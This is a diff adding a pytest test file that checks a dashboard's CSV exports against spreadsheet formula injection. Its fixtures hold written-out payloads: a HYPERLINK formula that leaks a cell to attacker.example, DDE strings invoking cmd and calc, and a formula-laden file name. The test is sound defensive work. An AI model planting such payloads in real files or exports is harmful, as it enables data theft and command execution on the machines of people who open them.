@@ -1,0 +1,140 @@
+"""Strings a visitor controls never become formulas or markup where they are shown again
+(issue 29: script, markup and formula injection).
+
+The data set here is hostile by construction: a column named like a spreadsheet formula, a
+categorical column whose name and levels are formulas (leading ``=``, ``+``, ``-``, ``@``,
+tab), a model whose one-hot encoder learned those levels. Every view's CSV export of a
+drill-down on it must hold no cell a spreadsheet would run, while numbers (negative ones
+included) stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from dashboard import jobs, views
+from dashboard.callbacks.compute import plan_state, resolve_state
+from dashboard.callbacks.drilldown import normalize
+from dashboard.callbacks.load import load_workspace
+from dashboard.config import Config
+from dashboard.server import create_app
+from dashboard.state import default_state
+from dashboard.views.base import FORMULA_STARTS, csv_cell
+
+FORMULA_COLUMN = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+LEVEL_COLUMN = "@SUM(1+1)*cmd|' /C calc'!A0"
+LEVELS = ["-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1+2", "plain"]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    import skops.io as sio
+    from sklearn.compose import ColumnTransformer
+    from sklearn.ensemble import RandomForestRegressor
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import OneHotEncoder
+
+    folder = tmp_path_factory.mktemp("hostile")
+    ctx = create_app(Config(cache_dir=str(folder / "cache"), max_curves=60))._wip_context
+    rng = np.random.default_rng(0)
+    n = 160
+    frame = pd.DataFrame(
+        {
+            FORMULA_COLUMN: rng.normal(size=n).round(3),
+            LEVEL_COLUMN: rng.choice(LEVELS, size=n),
+            "plain": rng.normal(size=n).round(3),
+        }
+    )
+    frame["y"] = (frame[FORMULA_COLUMN] - 2 * (frame[LEVEL_COLUMN] == LEVELS[0]) + 0.3 * frame.plain).round(3)
+    model = make_pipeline(
+        ColumnTransformer([("levels", OneHotEncoder(handle_unknown="ignore"), [LEVEL_COLUMN])], remainder="passthrough"),
+        RandomForestRegressor(n_estimators=20, random_state=0),
+    ).fit(frame.drop(columns="y"), frame.y)
+    sio.dump(model, folder / "model.skops")
+
+    def upload(name: str, content: bytes) -> dict:
+        token, path = ctx.store.new_upload(name)
+        path.write_bytes(content)
+        return {"id": token, "name": name, "size": len(content)}
+
+    result = load_workspace(
+        ctx,
+        [upload("=cmd|' calc'!A0.skops", (folder / "model.skops").read_bytes())],
+        upload("data.csv", frame.to_csv(index=False).encode()),
+        "y",
+        None,
+        None,
+        [],
+        False,
+        None,
+        "training",
+        False,
+        None,
+    )
+    assert "ws" in result, result
+    return ctx, result["ws"]
+
+
+def _record(ctx, ws_id: str, feature: str) -> dict:
+    ws = ctx.store.workspace(ws_id)
+    state, error = normalize(
+        ctx,
+        {
+            **default_state(),
+            "ws": ws_id,
+            "feature": feature,
+            "obs": "3",
+            "edit": {"plain": 1.5},
+            "subgroup": f"`{LEVEL_COLUMN}` != 'plain'",
+        },
+    )
+    assert error is None, error
+    planned = plan_state(ctx, ws, state)
+    jobs.run(ctx.store, ws, [t for t in planned["tasks"] if t["kind"] != "sfimp"], policy=ctx.policy)
+    results = resolve_state(ctx, state, None).results
+    assert isinstance(results, dict) and "sigs" in results, results
+    return results
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("feature", [FORMULA_COLUMN, LEVEL_COLUMN])
+def test_no_csv_export_holds_a_cell_a_spreadsheet_would_run(hostile, feature):
+    ctx, ws_id = hostile
+    record = _record(ctx, ws_id, feature)
+    exported, cells = 0, []
+    for button in views.exports():
+        sent = views.export(ctx, button, record)
+        if sent is None:
+            continue
+        exported += 1
+        assert "=" not in sent["filename"] and "|" not in sent["filename"] and "'" not in sent["filename"]
+        for cell in _cells(sent["content"]):
+            cells.append(cell)
+            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (button, cell)
+    assert exported >= 6
+    # the hostile names are there, made inert, not dropped; negative numbers stay numbers
+    assert "'" + FORMULA_COLUMN in cells and "'" + LEVEL_COLUMN in cells
+    assert any(c.startswith("-") and _is_number(c) for c in cells)
+
+
+def test_csv_cell_follows_owasp():
+    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@A1") == "'@A1" and csv_cell("\t=1") == "'\t=1"
+    assert csv_cell("+1+1") == "'+1+1" and csv_cell("-2+3+cmd|' /C calc'!A0").startswith("'-")
+    assert csv_cell("\uff1dcmd") == "'\uff1dcmd"  # full-width equals sign
+    assert csv_cell("-1.5") == "-1.5" and csv_cell("+2") == "+2" and csv_cell(-3.0) == -3.0
+    assert csv_cell("plain = text") == "plain = text" and csv_cell(None) is None
